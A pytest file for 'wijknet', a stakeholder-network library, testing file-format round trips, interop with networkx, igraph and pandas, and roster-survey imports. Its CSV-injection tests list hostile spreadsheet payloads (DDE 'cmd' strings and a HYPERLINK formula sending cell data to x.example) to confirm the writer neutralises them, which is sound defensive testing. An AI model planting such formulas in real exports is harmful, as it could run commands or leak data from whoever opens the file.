"""Files, DataFrames and peer libraries: round trips and interop (tests/cpp/test_io.cpp is the C++ twin)."""

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import networkx as nx
import numpy as np
import pandas as pd
import pytest

import wijknet

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "data"


def ties(a):
    """Ties as a sorted list of (relation, wave, source, target, weight); undirected ends sorted."""
    undirected = {r["key"] for r in a.relations if not r["directed"]}
    out = []
    for t in a.ties().itertuples():
        s, u = t.source, t.target
        if t.relation in undirected and u < s:
            s, u = u, s
        out.append((t.relation, t.wave, s, u, t.weight))
    return sorted(out)


def same_frames(a, b, include_sensitive=True):
    fa, fb = wijknet.to_pandas(a, include_sensitive), wijknet.to_pandas(b, include_sensitive)
    for name in fa:
        pd.testing.assert_frame_equal(fa[name], fb[name], check_dtype=False, obj=name)


@pytest.fixture
def rich(example):
    a = example.copy()
    a.add_role("jongerenwerk", "youth work", "Youth workers")
    a.add_relation("advice", "Advies", True)
    a.add_template("mijn_methode", "My method", required=["youth work"], recommended=["wijkagent"], source="memo §2")
    a.add_stakeholder("jw", "Jongerenwerk Één", "group", roles=["jongerenwerk"], waves=["T1"],
                      attributes={"score": 0.30000000000000004, "secret": "x"}, sensitive=["secret"])
    a.add_tie("jw", "wijkagent_kwikstaart", "advice", "T1", 2.5, attributes={"note": "a \"quote\"\nline"})
    return a


# ---------------------------------------------------------------- JSON

def test_json_round_trip_is_exact(rich, tmp_path):
    path = tmp_path / "a.json"
    wijknet.write(rich, path, include_sensitive=True)
    back = wijknet.read(path)
    same_frames(rich, back)
    for attr in ("roles", "themes", "relations", "waves", "templates"):
        assert getattr(back, attr) == getattr(rich, attr), attr
    assert back.stakeholder("jw")["sensitive"] == ["secret"]


def test_json_leaves_sensitive_out_by_default_and_says_so(rich, tmp_path):
    path = tmp_path / "a.json"
    wijknet.write(rich, path)
    text = path.read_text(encoding="utf-8")
    assert '"secret": ' not in text and '"lhbti_focus": ' not in text
    assert '"stakeholders": ["lhbti_focus", "secret"]' in text
    assert "lhbti_focus" not in wijknet.read(path).stakeholders(include_sensitive=True).columns


def test_json_errors_name_line_and_column(tmp_path):
    path = tmp_path / "bad.json"
    path.write_text('{"format": "wijknet", "version": 1,\n "stakeholders": [{"id": "a", "kind": "club"}]}')
    with pytest.raises(wijknet.ParseError) as err:
        wijknet.read(path)
    assert (err.value.line, err.value.column) == (2, 19)
    assert str(err.value).endswith("unknown stakeholder kind 'club'; expected organisation, person, initiative or group")


def test_writes_are_atomic(example, tmp_path):
    path = tmp_path / "a.json"
    path.write_text("previous")
    with pytest.raises(wijknet.InvalidValueError):
        wijknet.write(example, path.with_suffix(".xyz"))
    with pytest.raises(wijknet.WriteError, match="cannot create a file in folder"):
        wijknet.write(example, tmp_path / "missing" / "a.json")
    assert path.read_text() == "previous"
    wijknet.write(example, path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.json"]  # no temporary file left


# ---------------------------------------------------------------- GraphML and the peers

def test_networkx_reads_our_graphml(example, tmp_path):
    path = tmp_path / "a.graphml"
    wijknet.write(example, path)
    g = nx.read_graphml(path, force_multigraph=True)
    assert set(g.nodes) == set(example.stakeholders().index)
    assert g.number_of_edges() == example.num_ties
    node = g.nodes["wijkagent_kwikstaart"]
    assert node["name"] == "Kees Kwikstaart" and node["role"] == "wijkagent"
    assert node["neighbourhood_years"] == 6.0 and node["volunteer"] is False
    assert "lhbti_focus" not in node  # sensitive: left out
    assert g.graph["waves"] == "T0|T1"
    ours = sorted((s, t, d["relation"], d["wave"], d["weight"]) for s, t, d in g.edges(data=True))
    theirs = sorted((r.source, r.target, r.relation, r.wave, r.weight) for r in example.ties().itertuples())
    assert ours == theirs


def test_we_read_networkx_graphml(example, tmp_path):
    path = tmp_path / "nx.graphml"
    nx.write_graphml(wijknet.to_networkx(example, events=False), path)  # wijknet GraphML holds no events
    back = wijknet.read(path)
    assert ties(back) == ties(example)
    assert list(back.stakeholders().index) == list(example.stakeholders().index)
    s = back.stakeholder("wijkagent_kwikstaart")
    assert s["roles"] == ["wijkagent"] and s["kind"] == "person"
    assert s["attributes"]["neighbourhood_years"] == 6.0 and s["attributes"]["volunteer"] is False


def test_igraph_interop_both_ways(example, tmp_path):
    ig = pytest.importorskip("igraph")
    ours = tmp_path / "a.graphml"
    wijknet.write(example, ours)
    g = ig.Graph.Read_GraphML(str(ours))
    assert g.vcount() == len(example) and g.ecount() == example.num_ties
    assert g.vs.find(id="wijkagent_kwikstaart")["name"] == "Kees Kwikstaart"
    theirs = tmp_path / "ig.graphml"
    g.write_graphml(str(theirs))
    back = wijknet.read(theirs)
    assert ties(back) == ties(example)
    assert back.stakeholder("wijkagent_kwikstaart")["name"] == "Kees Kwikstaart"


def test_networkx_and_igraph_conversions_round_trip(example):
    ig = pytest.importorskip("igraph")
    for back in (wijknet.from_networkx(wijknet.to_networkx(example)), wijknet.from_igraph(wijknet.to_igraph(example))):
        assert ties(back) == ties(example)
        assert list(back.stakeholders().index) == list(example.stakeholders().index)
        assert back.stakeholder("opbouwwerker_grutto")["waves"] == ["T0"]
    g = wijknet.to_igraph(example)
    assert isinstance(g, ig.Graph) and g.vs.find(name="wijkagent_kwikstaart")["label"] == "Kees Kwikstaart"


def test_from_plain_networkx_graphs():
    g = nx.karate_club_graph()
    a = wijknet.from_networkx(g)
    assert len(a) == 34 and a.num_ties == 78
    assert a.relations[-1] == {"key": "tie", "label": "tie", "directed": False, "label_nl": "tie", "aliases": []}
    assert a.stakeholder("0")["attributes"]["club"] == "Mr. Hi"
    d = wijknet.from_networkx(nx.DiGraph([("a", "b"), ("b", "a")]), default_relation="referral")
    assert ties(d) == [("referral", "T0", "a", "b", 1.0), ("referral", "T0", "b", "a", 1.0)]


# ---------------------------------------------------------------- DL, DOT, CSV folders

@pytest.mark.parametrize("layout", ["fullmatrix", "edgelist1"])
def test_dl_round_trip(example, tmp_path, layout):
    path = tmp_path / "a.dl"
    wijknet.write(example, path, layout=layout)
    back = wijknet.read(path)
    assert ties(back) == ties(example)


def test_dot_for_graphviz(example, tmp_path):
    path = tmp_path / "a.dot"
    wijknet.write(example, path, wave="T1", names=False)
    text = path.read_text(encoding="utf-8")
    assert text.startswith("digraph alliance {") and "fillcolor" in text
    with pytest.raises(wijknet.InvalidValueError, match="DOT files are written for Graphviz only"):
        wijknet.read(path)
    if shutil.which("dot"):
        subprocess.run(["dot", "-Tsvg", str(path), "-o", str(tmp_path / "a.svg")], check=True)


def test_csv_folder_round_trip(example, tmp_path):
    wijknet.write(example, tmp_path / "out", include_sensitive=True)
    back = wijknet.read(tmp_path / "out")
    same_frames(example, back)
    wijknet.write(example, tmp_path / "plain")
    assert "lhbti_focus" not in (tmp_path / "plain" / "stakeholders.csv").read_text(encoding="utf-8")


# ---------------------------------------------------------------- pandas and matrices

def test_pandas_round_trip_and_default_columns(rich):
    frames = wijknet.to_pandas(rich, include_sensitive=True)
    assert list(frames["stakeholders"].columns[:5]) == ["id", "name", "kind", "role", "waves"]
    assert list(frames["ties"].columns[:5]) == ["source", "target", "relation", "wave", "weight"]
    back = wijknet.from_pandas(frames["stakeholders"], frames["ties"], frames["events"], frames["participation"],
                               sensitive=frames["stakeholders"].attrs["sensitive"], declare_relations=True,
                               declare_unknown_roles=True)
    same_frames(rich, back)


def test_from_pandas_renamed_columns_and_errors():
    people = pd.DataFrame({"code": ["a", "b"], "rol": ["wijkagent|bewoner", "gemeente"], "age": [30, np.nan]})
    links = pd.DataFrame({"van": ["a"], "naar": ["c"], "gewicht": [np.int64(3)]})
    with pytest.raises(wijknet.UnknownIdError, match="ties row 1, column 'naar': unknown stakeholder 'c'"):
        wijknet.from_pandas(people, links, id="code", role="rol", source="van", target="naar", weight="gewicht")
    a = wijknet.from_pandas(people, links, id="code", role="rol", source="van", target="naar", weight="gewicht",
                            create_stakeholders=True)
    assert a.stakeholder("a")["roles"] == ["wijkagent", "bewoner"]
    assert a.stakeholder("b")["attributes"]["age"] is None
    assert ties(a) == [("collaboration", "T0", "a", "c", 3.0)]


def test_adjacency_matches_networkx(example):
    m = wijknet.adjacency_matrix(example, relations=["referral"], waves=["T1"], weighted=True)
    present = wijknet.Snapshot(example, waves="T1").ids  # the stakeholders present in T1
    g = nx.DiGraph()
    g.add_nodes_from(present)
    for t in example.ties().itertuples():
        if t.relation == "referral" and t.wave == "T1":
            g.add_edge(t.source, t.target, weight=t.weight)
    np.testing.assert_array_equal(m, nx.to_numpy_array(g, nodelist=present))
    collab = wijknet.adjacency_matrix(example, relations=["collaboration"], weighted=False)
    np.testing.assert_array_equal(collab, collab.T)  # undirected: symmetric
    pytest.importorskip("scipy")
    s = wijknet.adjacency_matrix(example, sparse=True)
    np.testing.assert_array_equal(s.toarray(), wijknet.adjacency_matrix(example))


# ---------------------------------------------------------------- the bundled example in every format

def test_bundled_json_and_graphml_match_the_csv_folder(example):
    assert (EXAMPLE / "alliance.json").read_text(encoding="utf-8") == example._dump_json(include_sensitive=True), (
        "examples/data/alliance.json is out of date; regenerate it (see examples/data/README.md)")
    assert (EXAMPLE / "alliance.graphml").read_text(encoding="utf-8") == example._dump_graphml(include_sensitive=True), (
        "examples/data/alliance.graphml is out of date; regenerate it (see examples/data/README.md)")
    same_frames(wijknet.read(EXAMPLE / "alliance.json"), example)


# ---------------------------------------------------------------- malformed files

MALFORMED = Path(__file__).resolve().parents[1] / "data" / "malformed"


def _malformed_cases():
    for line in (MALFORMED / "expected_errors.tsv").read_text(encoding="utf-8").splitlines():
        if line and not line.startswith("#") and not line.split("\t")[0].endswith(".csv"):
            name, message = line.split("\t")
            yield pytest.param(name, message, id=name)


@pytest.mark.parametrize("name, message", list(_malformed_cases()))
def test_malformed_file_gives_its_exact_error(name, message):
    with pytest.raises(wijknet.ParseError) as err:
        wijknet.read(MALFORMED / name)
    assert str(err.value) == f"{MALFORMED}/{message}"
    line_column = message.split(": ")[0].split(":")[1:]
    assert err.value.line == int(line_column[0])


# ---------------------------------------------------------------- roster surveys (same survey as tests/cpp/test_io.cpp)

SURVEY = pd.DataFrame(
    [("a", "b", "collaboration", 3), ("b", "a", "collaboration", 2), ("a", "c", "collaboration", 1),
     ("c", "b", "collaboration", 4), ("a", "d", "collaboration", 2), ("a", "b", "reliability", 4),
     ("a", "b", "mission", 3), ("a", "b", "power", 2), ("c", "b", "reliability", 2),
     ("a", "c", "reliability", 1), ("a", "c", "mission", 1), ("a", "c", "openness", 4), ("a", "c", "power", 4)],
    columns=["respondent", "partner", "item", "value"])


@pytest.mark.parametrize("rule, expected", [
    ("as_reported", [("a", "b", 3.0, True), ("a", "c", 1.0, False), ("a", "d", 2.0, False), ("b", "a", 2.0, True),
                     ("c", "b", 4.0, False)]),
    ("minimum", [("a", "b", 2.0, True), ("a", "d", 2.0, False)]),
    ("maximum", [("a", "b", 3.0, True), ("a", "c", 1.0, False), ("a", "d", 2.0, False), ("b", "c", 4.0, False)]),
    ("mean", [("a", "b", 2.5, True), ("a", "c", 0.5, False), ("a", "d", 2.0, False), ("b", "c", 2.0, False)]),
])
def test_roster_rules(rule, expected):
    a = wijknet.Alliance()
    summary = wijknet.add_roster_ties(a, SURVEY, "collaboration", roster=["a", "b", "c", "d", "e"], rule=rule)
    assert summary["non_respondents"] == ["d", "e"]
    got = sorted((t.source, t.target, t.weight, t.confirmed) for t in a.ties().itertuples())
    assert got == expected
    # e did not respond: every report of it is missing (docs/missing.md)
    relation = "information" if rule == "as_reported" else "collaboration"
    assert a.stakeholder("e")["attributes"] == {"respondent_T0": "not", "missing_T0": f'{{"{relation}": "all"}}'}


def test_roster_wide_form_gives_the_same_ties():
    wide = SURVEY.assign(column=SURVEY["partner"] + ":" + SURVEY["item"]).pivot(
        index="respondent", columns="column", values="value").reset_index()
    long_, wide_ = wijknet.Alliance(), wijknet.Alliance()
    wijknet.add_roster_ties(long_, SURVEY, "collaboration", roster=list("abcd"), rule="maximum")
    wijknet.add_roster_ties(wide_, wide, "collaboration", roster=list("abcd"), rule="maximum", form="wide")
    assert ties(long_) == ties(wide_)


def test_roster_error_leaves_an_undeclared_wave_undeclared():
    a = wijknet.Alliance()
    a.add_wave("T0")
    a.add_stakeholder("a", waves=["T0"])  # cannot have a tie in T1
    before = a._dump_json("", True)
    with pytest.raises(wijknet.InvalidValueError, match="does not take part in wave 'T1'"):
        wijknet.add_roster_ties(a, SURVEY, "collaboration", roster=list("abcd"), wave="T1")
    assert [w["key"] for w in a.waves] == ["T0"]
    assert a._dump_json("", True) == before
    bad = SURVEY.assign(value=SURVEY["value"].where(SURVEY.index != 3, -1))  # c rates b -1
    with pytest.raises(wijknet.InvalidValueError, match="expected a number >= 0"):
        wijknet.add_roster_ties(a, bad, "collaboration", roster=list("abcd"), wave="T2")
    assert [w["key"] for w in a.waves] == ["T0"]
    b = wijknet.Alliance()
    wijknet.add_roster_ties(b, SURVEY, "collaboration", roster=list("abcd"), wave="T3")
    assert [w["key"] for w in b.waves] == ["T3"] and b.num_ties == 5


@pytest.mark.parametrize("form", ["long", "wide"])
def test_roster_non_numeric_value_is_a_wijknet_error(form):
    survey = SURVEY.astype({"value": object})
    survey.loc[2, "value"] = "vaak"  # a rates c "vaak" (often) on collaboration
    if form == "wide":
        survey = survey.assign(column=survey["partner"] + ":" + survey["item"]).pivot(
            index="respondent", columns="column", values="value").reset_index()
    a = wijknet.Alliance()
    with pytest.raises(wijknet.InvalidValueError,
                       match=r"roster: 'a' rated 'c' 'vaak' on 'collaboration' \(1 such answer\(s\)\); expected a number"):
        wijknet.add_roster_ties(a, survey, "collaboration", roster=list("abcd"), form=form)
    assert len(a) == 0 and a.waves == []
    with pytest.raises(wijknet.InvalidValueError, match="'vaak'"):
        wijknet.partner_scores(survey, form=form)


def test_partner_trust_and_value_scores():
    scores = wijknet.partner_scores(SURVEY)
    assert scores.loc["b", "trust"] == 2.75 and scores.loc["b", "value"] == 2.0 and scores.loc["b", "raters"] == 2
    assert scores.loc["network", "trust"] == 2.5 and scores.loc["network", "value"] == 3.0
    assert scores.loc["network", "trust_pct"] == 62.5
    assert list(scores.index) == ["b", "c", "network"]


def test_json_schema_allows_what_the_writer_writes(rich):
    """A small structural check (no jsonschema dependency): every member the writer emits is declared."""
    import json

    schema = json.loads((EXAMPLE.parents[1] / "docs" / "io" / "wijknet.schema.json").read_text(encoding="utf-8"))

    def resolve(node):
        while "$ref" in node:
            node = schema["$defs"][node["$ref"].split("/")[-1]]
        return node

    def check(value, node, where):
        node = resolve(node)
        if isinstance(value, dict) and "properties" in node:
            for key, item in value.items():
                assert key in node["properties"], f"{where}: member '{key}' not in the schema"
                check(item, node["properties"][key], f"{where}.{key}")
            for key in node.get("required", []):
                assert key in value, f"{where}: required member '{key}' missing"
        elif isinstance(value, list) and "items" in node:
            for i, item in enumerate(value):
                check(item, node["items"], f"{where}[{i}]")

    for include_sensitive in (False, True):
        check(json.loads(rich._dump_json(include_sensitive=include_sensitive)), schema, "$")


# ---------------------------------------------------------------- hardened readers (issue 13)

def test_invalid_utf8_id_is_an_error_at_read_time(tmp_path):
    # ED A0 80 is a UTF-16 surrogate: not UTF-8 (RFC 3629). Read as UTF-8, the file is refused at
    # the character; detected, it is Windows-1252 text, so every id reaches Python as a str.
    (tmp_path / "stakeholders.csv").write_bytes(b"id,role\n\xc3\xa9\xed\xa0\x80,wijkagent\n")
    with pytest.raises(wijknet.ParseError) as err:
        wijknet.read_csv_folder(tmp_path, encoding="utf-8")
    assert str(err.value) == (f"{tmp_path}/stakeholders.csv:2:2: the file is not UTF-8 text (save it as 'CSV UTF-8' "
                              "in Excel, or convert it with iconv)")
    assert list(wijknet.read_csv_folder(tmp_path).stakeholders().index) == ["Ã©í\u00a0€"]


def test_near_duplicate_ids_are_warned_about(tmp_path):
    (tmp_path / "stakeholders.csv").write_text("id,role\ncoc,wijkagent\nCOC,wijkagent\ncafé,wijkagent\n"
                                               "cafe\u0301,wijkagent\n", encoding="utf-8")
    a = wijknet.read_csv_folder(tmp_path)
    assert list(a.stakeholders().index) == ["coc", "COC", "café", "cafe\u0301"]  # kept as written
    assert [str(w) for w in a.read_warnings] == [
        f"{tmp_path}/stakeholders.csv:3:1: the id of stakeholder 'COC' differs from that of 'coc' (line 2) only in "
        "capitals, accents or Unicode form; if they are one stakeholder, write the id the same way everywhere",
        f"{tmp_path}/stakeholders.csv:5:1: the id of stakeholder 'cafe\u0301' differs from that of 'café' (line 4) "
        "only in capitals, accents or Unicode form; if they are one stakeholder, write the id the same way everywhere"]
    assert a.read_warnings[0].stakeholders == ("COC", "coc")
    assert list(wijknet.validate(tmp_path)["severity"]) == ["warning", "warning"]


def test_dot_never_writes_a_control_character(tmp_path):
    a = wijknet.Alliance()
    a.add_stakeholder("coc", name="C\x00C")
    with pytest.raises(wijknet.InvalidValueError) as err:
        wijknet.write(a, tmp_path / "a.dot")
    assert str(err.value) == ("the name of stakeholder 'coc' holds control character \\x00, which a DOT file cannot "
                              "hold; remove it")
    assert not (tmp_path / "a.dot").exists()
    wijknet.write(a, tmp_path / "ids.dot", names=False)
    assert b"\x00" not in (tmp_path / "ids.dot").read_bytes()


def test_negative_weights_where_a_measure_needs_strengths_name_the_tie():
    a = wijknet.Alliance()
    a.add_wave("T0")
    for s in "abc":
        a.add_stakeholder(s)
    a.add_tie("a", "b", "collaboration", "T0", 2.0)
    a.add_tie("b", "c", "collaboration", "T0", -1.5)
    tail = " (leave such ties out with min_weight, or pass weight=None)"
    with pytest.raises(wijknet.InvalidValueError) as err:
        wijknet.pagerank(a, weight=True)
    assert str(err.value) == ("PageRank reads weights as tie strengths, which must be non-negative: the tie 'b' -- 'c' "
                              "has weight -1.5" + tail)
    with pytest.raises(wijknet.InvalidValueError, match="structural-hole measures read weights as tie strengths, "
                                                        "which must be non-negative: the tie 'b' -- 'c' has weight -1.5"):
        wijknet.constraint(a)
    with pytest.raises(wijknet.InvalidValueError, match="weights read as distances, which must be positive: the tie "
                                                        "'b' -- 'c' has weight -1.5"):
        wijknet.closeness(a, weight="distance")
    # Without weights, or with the bad tie left out, the measures run.
    assert wijknet.pagerank(a).sum() == pytest.approx(1.0)
    assert wijknet.pagerank(a, weight=True, min_weight=0).sum() == pytest.approx(1.0)


@pytest.mark.parametrize("name, hint", [
    ("alliantie.xlsx", "a spreadsheet workbook is not read directly: save each sheet as 'CSV UTF-8' into one folder"),
    ("alliantie.ods", "pandas.read_excel and pass them to wijknet.from_pandas"),
    ("stakeholders.csv", "one CSV file is not an alliance: pass the folder that holds stakeholders.csv"),
])
def test_a_file_wijknet_does_not_read_says_what_to_pass_instead(tmp_path, name, hint):
    # What a programme lead is most likely to try first: the workbook itself, or one sheet saved as CSV.
    path = tmp_path / name
    path.write_bytes(b"PK\x03\x04")
    with pytest.raises(wijknet.InvalidValueError, match="cannot tell the format from the extension") as caught:
        wijknet.read(path)
    assert hint in str(caught.value)


# ---------------------------------------------------------------- CSV a spreadsheet opens (issue 25)

#: Texts a spreadsheet would run (OWASP "CSV injection"), texts that only look like the quote that
#: neutralises them, and line breaks a reader could take for the end of a row.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-x", "''", "'", "'s-Hertogenbosch", "-x",
           "a\rb", "a\r\nb", "\r"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_would_run(cell):
    """True for a cell a spreadsheet evaluates: a formula start that is not simply a number."""
    return cell.startswith(FORMULA_STARTS) and re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", cell) is None


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def hostile_alliance():
    a = wijknet.Alliance()
    a.add_wave("@T0", "=wave", "")
    a.add_relation("+advies", "-advice", True)
    for i, text in enumerate(HOSTILE):
        # Names are read trimmed (a name never starts with a space or tab): the trimmed text.
        a.add_stakeholder(f"={i}" if i % 2 else f"-s{i}", name=text.strip(" \t") or "x", kind="person",
                          roles=["wijkagent"], attributes={"=note": text, "score": -0.5 - i})
    a.add_tie("=1", "-s0", "+advies", "@T0", 2, attributes={"note": "-1-1"})
    return a


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_the_folder_reads_back(tmp_path):
    a = hostile_alliance()
    wijknet.write(a, tmp_path / "out", include_sensitive=True)
    for file in (tmp_path / "out").glob("*.csv"):
        cells = csv_cells(file.read_text(encoding="utf-8"))
        assert [c for c in cells if spreadsheet_would_run(c)] == [], file.name
    text = (tmp_path / "out" / "stakeholders.csv").read_text(encoding="utf-8")
    assert "'=note" in text.splitlines()[0] and ",-0.5\n" in text  # the header too; numbers stay numbers
    back = wijknet.read(tmp_path / "out")
    same_frames(a, back)
    assert back.stakeholder("=1")["attributes"]["=note"] == "+cmd|' /C calc'!A0"
    assert back.stakeholder("-s10")["attributes"]["=note"] == "'s-Hertogenbosch"
    wijknet.write(back, tmp_path / "again", include_sensitive=True)
    for file in (tmp_path / "out").glob("*.csv"):
        assert (tmp_path / "again" / file.name).read_bytes() == file.read_bytes()


def test_a_carriage_return_in_a_cell_is_quoted_so_the_folder_reads_back(tmp_path):
    a = wijknet.Alliance()
    a.add_stakeholder("coc", name="COC\rRivierstad", roles=["lhbti_organisatie"], attributes={"note": "a\rb"})
    wijknet.write(a, tmp_path / "out")
    assert b'"COC\rRivierstad"' in (tmp_path / "out" / "stakeholders.csv").read_bytes()
    back = wijknet.read(tmp_path / "out")
    assert back.stakeholder("coc")["name"] == "COC\rRivierstad"
    assert back.stakeholder("coc")["attributes"]["note"] == "a\rb"


def test_a_nul_character_is_refused_before_anything_is_written(tmp_path):
    a = wijknet.Alliance()
    a.add_stakeholder("coc", name="C\x00C", roles=["lhbti_organisatie"])
    with pytest.raises(wijknet.InvalidValueError) as err:
        wijknet.write(a, tmp_path / "out")
    assert str(err.value) == ("stakeholders.csv: column 'name' of the row of 'coc' holds a NUL character (\\x00), "
                              "which a CSV file cannot hold; remove it")
    assert not (tmp_path / "out").exists()
    b = wijknet.Alliance()
    b.add_stakeholder("coc", roles=["lhbti_organisatie"], attributes={"no\x00te": 1})
    with pytest.raises(wijknet.InvalidValueError, match=r"column name 'no\\x00te' holds a NUL"):
        wijknet.write(b, tmp_path / "out")


def test_roster_response_is_kept_per_wave():
    """Issue 20: importing T1 overwrote the `respondent` attribute of T0. d did not respond at T0 and did at T1;
    b left an answer blank at T1 (a missing answer: partly)."""
    a = wijknet.Alliance()
    wijknet.add_roster_ties(a, SURVEY, "collaboration", roster=list("abcd"), wave="T0")
    t1 = pd.DataFrame([("d", "a", "collaboration", 3), ("b", "a", "collaboration", 2),
                       ("b", "c", "collaboration", None)], columns=["respondent", "partner", "item", "value"])
    summary = wijknet.add_roster_ties(a, t1, "collaboration", roster=list("abcd"), wave="T1")
    assert summary["partly"] == ["b"] and summary["non_respondents"] == ["a", "c"]
    frame = a.stakeholders()
    assert frame["respondent_T0"].to_dict() == {"a": "responded", "b": "responded", "c": "responded", "d": "not"}
    assert frame["respondent_T1"].to_dict() == {"a": "not", "b": "partly", "c": "not", "d": "responded"}


def test_csv_text_writes_plain_cells_as_pandas_does(example):
    """Only cells a spreadsheet would run, and a bare CR, are written differently from pandas' to_csv: the example's
    frames, and nullable numbers with missing values, come out byte for byte the same."""
    from wijknet._io import to_csv_text

    frames = list(wijknet.to_pandas(example, include_sensitive=True, include_incidents=True).values())
    frames.append(pd.DataFrame({"n": [1, None], "x": [1.5, None], "b": [True, False], "s": ["a, b", None]})
                  .astype({"n": "Int64", "x": "Float64"}))
    for frame in frames:
        assert to_csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")
